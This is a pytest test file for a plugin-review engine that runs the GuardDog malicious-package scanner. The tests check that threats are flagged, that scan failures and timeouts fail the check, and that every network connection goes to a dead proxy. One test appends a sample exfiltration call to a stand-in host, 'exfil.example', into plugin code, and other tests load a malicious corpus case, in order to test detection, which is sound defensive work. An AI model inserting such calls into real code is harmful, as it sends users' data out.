"""GuardDog, the second engine: threats are errors, capabilities inform the permission check, a failed scan
fails, and it never runs plugin code nor reaches the network (every connection goes to a dead proxy)."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import ClassVar

import pytest
from tests.support.corpus import MemorySource, case_files, load_cases
from tests.support.review import ids

from wxreg.review.checks import GuardDogCheck, guarddog
from wxreg.review.context import ToolConfig
from wxreg.review.engine import ReviewOptions, ReviewRequest, review

EXFIL = next(c for c in load_cases("malicious") if c.name == "supply/exfil_telegram")


def review_with_guarddog(options: ReviewOptions, files: dict[str, bytes], **tools: object) -> set[str]:
    opts = replace(options, checks=(GuardDogCheck(),), source=MemorySource(files),
                   tools=replace(options.tools, **tools))  # type: ignore[arg-type]
    return ids(review(ReviewRequest("memory", "v1.0.0"), opts))


def test_threats_are_errors_and_capabilities_inform(options: ReviewOptions, tmp_path: Path) -> None:
    canary = tmp_path / "CANARY"
    found = review_with_guarddog(options, case_files(EXFIL, canary))
    assert "WXR-S105" in found and "WXR-P020" in found
    assert not canary.exists()


def test_a_clean_plugin_has_no_threat(options: ReviewOptions, tmp_path: Path) -> None:
    clean = next(c for c in load_cases("benign") if c.name == "supply/requests_pyyaml")
    assert "WXR-S105" not in review_with_guarddog(options, case_files(clean, tmp_path / "CANARY"))


@pytest.mark.parametrize("tools", [{"python": "/bin/false"}, {"python": "/nonexistent/python"}])
def test_a_scan_that_fails_fails_the_check(options: ReviewOptions, tmp_path: Path, tools: dict[str, object]) -> None:
    found = review_with_guarddog(options, case_files(EXFIL, tmp_path / "CANARY"), **tools)
    assert found == {"WXR-S106"}


def test_a_timeout_fails_the_check(options: ReviewOptions, tmp_path: Path) -> None:
    found = review_with_guarddog(options, case_files(EXFIL, tmp_path / "CANARY"), timeout_seconds=0.01)
    assert found == {"WXR-S106"}


class _Recorder(socketserver.BaseRequestHandler):
    seen: ClassVar[list[str]] = []

    def handle(self) -> None:
        line = self.request.recv(1024).split(b"\r\n", 1)[0].decode("latin-1")
        self.seen.append(line)  # and close: the proxy is dead for every purpose but counting


@pytest.fixture
def recording_proxy(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    _Recorder.seen = []
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Recorder) as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        monkeypatch.setattr(guarddog, "DEAD_PROXY", f"http://127.0.0.1:{server.server_address[1]}")
        yield _Recorder.seen
        server.shutdown()


def test_every_connection_goes_to_the_dead_proxy(
    options: ReviewOptions, tmp_path: Path, recording_proxy: list[str]
) -> None:
    """GuardDog only tries to fetch its popular-package lists, and only through the proxy we give it."""
    files = case_files(EXFIL, tmp_path / "CANARY")
    files["main.py"] += b"\nrequests.get('https://exfil.example/x')  # a URL in the plugin is never fetched\n"
    assert "WXR-S105" in review_with_guarddog(options, files)
    assert recording_proxy, "GuardDog made no connection at all: this test would prove nothing"
    hosts = {line.split()[1].split(":")[0] for line in recording_proxy if line.startswith("CONNECT ")}
    assert all(line.startswith("CONNECT ") for line in recording_proxy), recording_proxy
    assert "exfil.example" not in hosts and "api.telegram.org" not in hosts, hosts


def test_guarddog_env_carries_no_secret(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_secret")
    env = guarddog.guarddog_env(tmp_path)
    assert "GITHUB_TOKEN" not in env and env["HOME"] == str(tmp_path)
    assert env["HTTPS_PROXY"] == env["HTTP_PROXY"] == guarddog.DEAD_PROXY and env["NO_PROXY"] == ""
    assert isinstance(ToolConfig().timeout_seconds, float)


def test_guarddog_is_an_operators_switch(tmp_path: Path) -> None:
    """Off by default (it adds no detection on our corpus, `bench/engine_table.py`); `engines.guarddog` turns
    it on; anything but a JSON boolean makes the policy invalid instead of guessing."""
    import json

    from wxreg.review.checks import default_checks
    from wxreg.review.policy import DEFAULT_POLICY_PATH, PolicyError, load_policy

    assert load_policy().guarddog is False
    assert "guarddog" not in [c.name for c in default_checks()]
    raw = json.loads(DEFAULT_POLICY_PATH.read_text(encoding="utf-8"))
    for value, expected in ((True, True), (False, False)):
        raw["engines"] = {"guarddog": value}
        (tmp_path / "policy.json").write_text(json.dumps(raw), encoding="utf-8")
        policy = load_policy(tmp_path / "policy.json")
        assert policy.guarddog is expected
        names = [c.name for c in default_checks(guarddog=policy.guarddog)]
        assert ("guarddog" in names) is expected and names.index("security") < len(names)
    for bad in ("true", 1, None, ["guarddog"]):
        raw["engines"] = {"guarddog": bad}
        (tmp_path / "policy.json").write_text(json.dumps(raw), encoding="utf-8")
        with pytest.raises(PolicyError):
            load_policy(tmp_path / "policy.json")
